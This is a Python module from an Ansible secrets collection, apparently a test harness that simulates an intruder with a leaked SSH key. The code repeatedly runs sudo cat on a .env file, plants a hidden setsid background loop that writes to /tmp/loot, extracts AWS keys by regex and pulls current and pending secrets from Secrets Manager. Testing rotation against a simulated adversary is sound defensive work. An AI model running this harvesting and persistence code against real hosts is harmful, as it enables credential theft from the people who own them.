# Copyright: (c) 2026, The watchparty.secrets contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
"""Somebody who has a leaked SSH key, was logged in before anybody noticed, and keeps everything that he can read.

He polls ``.env`` over his open session, leaves a copy of himself running behind it, and asks AWS by the key that he
finds in ``.env``.
"""

from __future__ import annotations

import re
import subprocess
import threading
from collections.abc import Callable
from pathlib import Path
from typing import Any

from botocore.exceptions import BotoCoreError, ClientError

from ansible_collections.watchparty.secrets.plugins.module_utils._core.url_credentials import Login

POLL = "while :; do sudo cat {file}; sleep 0.2; done"
BEHIND = "setsid sh -c '{poll} > /tmp/loot' < /dev/null > /dev/null 2>&1 & "
_KEY = re.compile(r"AWS_ACCESS_KEY_ID='?([A-Z0-9]+)'?\s.*?AWS_SECRET_ACCESS_KEY='?([^'\s]+)'?\s", re.DOTALL)


class Thief:
    """One open session on one host; a context manager."""

    def __init__(self, ssh: list[str], file: str, log: Path, secrets: Callable[[Login], Any], names: list[str]) -> None:
        poll = POLL.format(file=file)
        self._command = [*ssh, BEHIND.format(poll=poll) + poll]
        self._log = log
        self._secrets, self._names = secrets, names
        self._over = threading.Event()
        self._asks = threading.Thread(target=self._ask)
        self.loot: set[str] = set()
        """What AWS answered."""
        self.answers = 0
        self.denied = ""

    def __enter__(self) -> Thief:
        with self._log.open("wb") as log:
            self._process = subprocess.Popen(
                self._command, stdin=subprocess.DEVNULL, stdout=log, stderr=subprocess.STDOUT, start_new_session=True
            )
        self._asks.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._over.set()
        self._asks.join()
        self._process.kill()
        self._process.wait()

    def saw(self) -> str:
        """Everything that came over his session."""
        return self._log.read_text(encoding="utf-8", errors="replace")

    def is_out(self, *, seconds: float) -> bool:
        """Whether his session has ended."""
        try:
            self._process.wait(seconds)
        except subprocess.TimeoutExpired:
            return False
        return True

    def _ask(self) -> None:
        """Asks for what is in force and for what is to come, by the key in the file as it first was."""
        while not self._over.wait(0.1):
            match = _KEY.search(self.saw())
            if match:
                break
        else:
            return
        client = self._secrets(Login(match.group(1), match.group(2)))
        while not self._over.is_set():
            for name in self._names:
                for stage in ("AWSCURRENT", "AWSPENDING"):
                    try:
                        self.loot.add(client.get_secret_value(SecretId=name, VersionStage=stage)["SecretString"])
                        self.answers += 1
                    except ClientError as error:
                        code = error.response["Error"]["Code"]
                        self.denied = code if code != "ResourceNotFoundException" else self.denied
                    except BotoCoreError:
                        continue
            self._over.wait(0.3)
